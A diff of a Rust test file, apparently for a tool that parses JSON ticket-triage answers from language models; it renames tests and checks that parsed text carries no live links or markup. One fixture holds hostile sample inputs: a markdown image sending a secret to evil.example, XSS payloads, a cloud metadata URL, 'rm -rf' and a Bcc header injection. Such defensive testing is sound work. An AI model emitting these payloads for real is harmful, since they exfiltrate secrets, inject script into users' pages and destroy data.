@@ -1,4 +1,4 @@
-//! Answers of models that obey whoever wrote the ticket, or nobody.
+//! Tests of answers, from well-behaved models and from manipulated ones.
 
 mod cut;
 mod fields;
@@ -19,7 +19,7 @@ static OPTIONS: LazyLock<Options> =
     LazyLock::new(|| TriageRules::default().options(&Lexicon::shipped()));
 static VOCABULARY: LazyLock<Vocabulary> = LazyLock::new(Vocabulary::shipped);
 
-fn known() -> Vec<Skill> {
+fn known_skills() -> Vec<Skill> {
     let skill = |id: &str, name: &str| Skill::new(id, name);
     vec![
         skill("react", "React"),
@@ -34,7 +34,7 @@ fn read(raw: &str) -> Result<Analysis, AnswerError> {
     ];
     let offer = Offer {
         options: &OPTIONS,
-        staff_skills: &known(),
+        staff_skills: &known_skills(),
         extra: &extra,
         texts: &PromptTexts::default(),
     };
@@ -47,7 +47,7 @@ fn ids(analysis: &Analysis) -> Vec<&str> {
 }
 
 #[test]
-fn an_obedient_answer_is_read() {
+fn a_well_formed_answer_is_parsed() {
     let analysis = read(
         r#"{"summary": "VPN drops", "category": "network", "priority": "high",
             "skills": ["react", "Postgres 16", "cobol on wheels", "Quantum knitting"],
@@ -64,7 +64,7 @@ fn an_obedient_answer_is_read() {
 }
 
 #[test]
-fn one_bad_member_spoils_no_other() {
+fn an_invalid_member_does_not_affect_others() {
     for raw in [
         r#"{"priority": "high", "category": 7, "skills": {"React": 1}, "notes": {"x": "y"}, "extra": {"a": 1}}"#,
         r#"{"priority": " High ", "summary": {}, "first_steps": {"0": "x"}}"#,
@@ -80,7 +80,7 @@ fn one_bad_member_spoils_no_other() {
 }
 
 #[test]
-fn floods_are_capped() {
+fn oversized_answers_are_truncated() {
     let many: Vec<String> = (0..1_500).map(|n| format!("\"zz{n}\"")).collect();
     let analysis = read(&format!("{{\"skills\": [{}]}}", many.join(","))).unwrap();
     assert!(analysis.skills.is_empty());
@@ -110,7 +110,7 @@ fn floods_are_capped() {
 }
 
 #[test]
-fn nothing_in_a_text_is_live() {
+fn texts_contain_no_links_and_markup() {
     let raw = r#"{"summary": "a\r\nBcc: x@y.example", "skills": ["<img src=x onerror=alert(1)>"],
         "notes": "![x](https://evil.example/?d=secret) <script>alert(1)</script> [go](javascript:alert(1))\u001b[2J",
         "first_steps": ["open http://169.254.169.254/latest", "run `rm -rf`"]}"#;
@@ -125,13 +125,13 @@ fn nothing_in_a_text_is_live() {
     assert_eq!(analysis.tags, ["evil[.]example", "a b"]);
 }
 
-fn holds_its_bounds(analysis: &Analysis) {
+fn assert_bounds(analysis: &Analysis) {
     let category = analysis.category.as_deref();
     assert!(category.is_none_or(|name| OPTIONS.categories.iter().any(|c| c.name == name)));
     assert!(analysis.skills.len() <= MAX_SKILLS && analysis.suggested_skills.len() <= MAX_SKILLS);
     for skill in &analysis.skills {
         let listed = VOCABULARY.entries().iter().any(|e| e.id == skill.id);
-        assert!(listed || known().contains(skill));
+        assert!(listed || known_skills().contains(skill));
     }
     assert!(analysis.summary.chars().count() <= MAX_SUMMARY);
     assert!(analysis.notes.chars().count() <= MAX_NOTES);
@@ -150,7 +150,7 @@ fn holds_its_bounds(analysis: &Analysis) {
             .keys()
             .all(|name| name == "site" || name == "device")
     );
-    let is_share = |sure: &f64| (0.0..=1.0).contains(sure);
+    let is_share = |confidence: &f64| (0.0..=1.0).contains(confidence);
     assert!(analysis.confidence.values().all(is_share));
     for text in texts
         .chain(&analysis.first_steps)
@@ -158,47 +158,47 @@ fn holds_its_bounds(analysis: &Analysis) {
         .chain(&analysis.tags)
         .chain(analysis.extra.values())
     {
-        let leads = |rest: &str| rest.starts_with(char::is_alphanumeric);
-        assert!(!text.split("://").skip(1).any(leads) && !text.contains("]("));
+        let is_target = |rest: &str| rest.starts_with(char::is_alphanumeric);
+        assert!(!text.split("://").skip(1).any(is_target) && !text.contains("]("));
         assert!(!text.contains(['<', '>', '\u{0}', '\u{1b}', '\r']));
     }
 }
 
 proptest! {
     #[test]
-    fn any_text_is_taken_or_refused(raw in any::<String>()) {
+    fn any_text_is_parsed_or_rejected(raw in any::<String>()) {
         if let Ok(analysis) = read(&raw) {
-            holds_its_bounds(&analysis);
+            assert_bounds(&analysis);
         }
     }
 
     #[test]
-    fn any_members_are_held_to_the_bounds(
+    fn any_members_respect_the_bounds(
         summary in any::<String>(),
         word in "(low|high|network|NETWORK|\\PC{0,12})",
         skills in prop::collection::vec("(React|sap|\\PC{0,20})", 0..20),
         notes in any::<String>(),
-        sure in any::<f64>(),
+        confidence in any::<f64>(),
     ) {
         let raw = serde_json::json!({
             "summary": summary, "category": word, "priority": word, "skills": skills, "notes": notes,
             "first_steps": [notes], "tags": skills, "extra": {"site": word, "device": notes, "x": word},
-            "type": word, "sentiment": word, "complexity": word, "confidence": {"category": word, "type": sure},
+            "type": word, "sentiment": word, "complexity": word, "confidence": {"category": word, "type": confidence},
         });
         if let Ok(analysis) = read(&raw.to_string()) {
-            holds_its_bounds(&analysis);
+            assert_bounds(&analysis);
         }
     }
 
     #[test]
-    fn what_answers_are_made_of_is_taken_or_refused(
+    fn fragments_of_answers_are_parsed_or_rejected(
         parts in prop::collection::vec(
             "(\\{|\\}|\\[|\\]|,|:|\"|\\\\|\\\\u00|\\\\ud83d|<think>|</think>|```|\"priority\":|\"low\"|\"notes\":|\"confidence\":|1e999|-|NaN|null|ä| |\n)",
             0..60,
         ),
     ) {
         if let Ok(analysis) = read(&parts.concat()) {
-            holds_its_bounds(&analysis);
+            assert_bounds(&analysis);
         }
     }
 }
